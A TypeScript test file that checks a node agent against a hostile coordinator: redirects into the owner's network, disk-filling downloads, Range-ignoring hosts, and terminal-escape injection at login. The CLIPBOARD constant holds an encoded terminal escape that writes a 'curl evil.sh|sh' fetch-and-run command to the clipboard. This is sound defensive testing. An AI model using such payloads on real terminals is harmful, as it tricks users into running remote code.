/**
 * The agent as the victim of the coordinator it talks to (a phishing URL typed at login, a
 * compromised server, a man in the middle on plain http): what such a server answers must not
 * reach past the node's own work on the owner's machine or network.
 */
import { execFile } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { downloadModelFile, partialPath } from '../src/agent/download-model-file.ts'
import { isTransient } from '../src/agent/model-manager.ts'
import { LinkStartError, linkDevice } from '../src/auth/link-device.ts'

async function listen(server: Server, host = '127.0.0.1'): Promise<string> {
  await new Promise<void>((r) => server.listen(0, host, r))
  return `http://${host}:${(server.address() as AddressInfo).port}`
}

/** A device on the owner's network (a router's admin page) that answers with a secret. */
async function startDeviceOnTheLan() {
  const requests: IncomingMessage[] = []
  const server = createServer((req, res) => {
    requests.push(req)
    res
      .writeHead(403, { 'content-type': 'application/json' })
      .end(JSON.stringify({ message: 'router admin password: hunter2' }))
  })
  return { url: await listen(server, '127.0.0.2'), requests, close: () => closeServer(server) }
}

/** A coordinator that answers every request with a redirect to `target`. */
async function startRedirectingCoordinator(target: string, status = 307) {
  const server = createServer((_req, res) => res.writeHead(status, { location: target }).end())
  return { url: await listen(server), close: () => closeServer(server) }
}

/** A model host whose body never ends; `sent()` says how many bytes it got out. */
async function startEndlessHost() {
  let sent = 0
  const requests: IncomingMessage[] = []
  const server = createServer((req, res) => {
    requests.push(req)
    res.writeHead(200, { 'content-type': 'application/octet-stream' })
    const piece = Buffer.alloc(65536, 0x78)
    const pump = () => {
      while (!res.destroyed && res.write(piece)) sent += piece.length
      if (!res.destroyed) res.once('drain', pump)
    }
    pump()
  })
  return {
    url: await listen(server),
    requests,
    sent: () => sent,
    close: () => closeServer(server),
  }
}

const GiB = 2 ** 30
const BIN = new URL('../bin/meshwork-node.mjs', import.meta.url).pathname
/** Control characters a terminal would obey (the newline between lines aside). */
// eslint-disable-next-line no-control-regex -- control characters are what is looked for.
const TERMINAL_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/
const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07'

/** A link server whose every string carries terminal escapes; `outcome` ends the flow. */
async function startEscapingLinkServer(outcome: 'approve' | 'deny') {
  const server = createServer((req, res) => {
    const json = (status: number, body: unknown) =>
      res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body))
    req.resume()
    if (req.url === '/api/auth/start-flow') {
      return json(200, {
        state_token: 's',
        device_secret: 'd',
        approve_url: `http://127.0.0.1:1/approve\x1b[1A\x1b[2K${CLIPBOARD}`,
        expires_at: new Date(Date.now() + 60_000).toISOString(),
      })
    }
    if (outcome === 'deny') return json(400, { message: `User denied authorization${CLIPBOARD}` })
    json(200, { status: 'approved', node_id: `node\x1b[2J`, credential: 'c' })
  })
  return { url: await listen(server), close: () => closeServer(server) }
}

function runCli(args: string[], home: string) {
  return new Promise<{ code: number; output: string }>((resolve) => {
    execFile(
      process.execPath,
      [BIN, ...args],
      { env: { ...process.env, MESHWORK_NODE_HOME: home } },
      (err, stdout, stderr) =>
        resolve({ code: err ? Number(err.code ?? 1) : 0, output: stdout + stderr }),
    )
  })
}

function closeServer(server: Server) {
  server.closeAllConnections()
  return new Promise<void>((r) => server.close(() => r()))
}

describe('a coordinator that redirects the agent to the owner’s network', () => {
  let dir = ''
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'mw-hostile-coord-'))
  })
  afterAll(() => rm(dir, { recursive: true, force: true }))

  it('a download follows no redirect: the device is never asked, its answer never reported', async () => {
    const device = await startDeviceOnTheLan()
    const coordinator = await startRedirectingCoordinator(`${device.url}/admin`, 302)
    const err = await downloadModelFile({
      url: `${coordinator.url}/api/models/m1/download`,
      headers: { authorization: 'Bearer n1.secret' },
      directory: dir,
      fileName: 'm.gguf',
      sha256: 'a'.repeat(64),
      sizeBytes: 1000,
      attempts: 1,
    }).catch((e: unknown) => e)
    await coordinator.close()
    await device.close()
    expect(device.requests).toHaveLength(0)
    // The error becomes model_status.error_message, which goes back to the coordinator.
    expect((err as Error).message).not.toContain('hunter2')
    expect((err as Error).message).toMatch(/redirect/)
    expect(err).toMatchObject({ name: 'DownloadHttpError', status: 302 })
    expect(isTransient(err)).toBe(false)
  })

  it('the link flow follows no redirect: nothing is posted to the device', async () => {
    const device = await startDeviceOnTheLan()
    const coordinator = await startRedirectingCoordinator(`${device.url}/api/set`)
    const err = await linkDevice({
      server: coordinator.url,
      deviceName: 'laptop',
      onApproveUrl: () => {},
    }).catch((e: unknown) => e)
    await coordinator.close()
    await device.close()
    expect(device.requests).toHaveLength(0)
    expect(err).toBeInstanceOf(LinkStartError)
    expect((err as Error).message).toMatch(/redirect/)
  })
})

describe('a download that would fill the owner’s disk', () => {
  let dir = ''
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'mw-hostile-disk-'))
  })
  afterAll(() => rm(dir, { recursive: true, force: true }))

  it('is refused before it starts when the file would leave less than 1 GiB free', async () => {
    const host = await startEndlessHost()
    const err = await downloadModelFile({
      url: `${host.url}/f`,
      directory: dir,
      fileName: 'huge.gguf',
      sha256: 'a'.repeat(64),
      sizeBytes: 10 * GiB,
      attempts: 1,
      freeBytes: async () => 10.5 * GiB,
    }).catch((e: unknown) => e)
    await host.close()
    expect(host.requests).toHaveLength(0)
    expect((err as Error).message).toMatch(/not enough disk space/i)
    // The owner frees space (or picks another model) and presses Retry: no retry loop meanwhile.
    expect(isTransient(err)).toBe(false)
  })

  it('of unknown size (0) stops once the disk is down to 1 GiB, and gives back what it took', async () => {
    const host = await startEndlessHost()
    let checks = 0
    const err = await downloadModelFile({
      url: `${host.url}/f`,
      directory: dir,
      fileName: 'endless.gguf',
      sha256: 'a'.repeat(64),
      sizeBytes: 0,
      attempts: 1,
      // Room at the start; the disk is down to its last gigabyte by the first check in flight.
      freeBytes: async () => (checks++ === 0 ? 100 * GiB : GiB - 1),
    }).catch((e: unknown) => e)
    await host.close()
    expect((err as Error).message).toMatch(/not enough disk space/i)
    expect(isTransient(err)).toBe(false)
    expect(host.sent()).toBeLessThan(64 * 2 ** 20)
    expect(await readdir(dir)).toEqual([])
  })
})

describe('a model host that ignores Range', () => {
  it('answers a resume with the whole file (200): the part file starts over, not appended to', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'mw-hostile-range-'))
    const file = Buffer.alloc(300_000, 0x61)
    const server = createServer((_req, res) => res.writeHead(200).end(file))
    const url = await listen(server)
    await writeFile(partialPath(dir, 'm.gguf'), Buffer.alloc(1000, 0x7a))
    const path = await downloadModelFile({
      url: `${url}/f`,
      directory: dir,
      fileName: 'm.gguf',
      sha256: createHash('sha256').update(file).digest('hex'),
      sizeBytes: file.length,
      attempts: 1,
    })
    await closeServer(server)
    expect((await readFile(path)).equals(file)).toBe(true)
    await rm(dir, { recursive: true, force: true })
  })
})

describe('login against a server whose answers carry terminal escapes', () => {
  for (const outcome of ['approve', 'deny'] as const) {
    it(`prints none of them (${outcome})`, async () => {
      const link = await startEscapingLinkServer(outcome)
      const home = await mkdtemp(join(tmpdir(), 'mw-hostile-login-'))
      const res = await runCli(['login', '--server', link.url, '--no-open'], home)
      await link.close()
      await rm(home, { recursive: true, force: true })
      expect(res.code).toBe(outcome === 'approve' ? 0 : 1)
      expect(res.output).toContain('http://127.0.0.1:1/approve')
      expect(res.output).not.toMatch(TERMINAL_CONTROL)
    })
  }
})
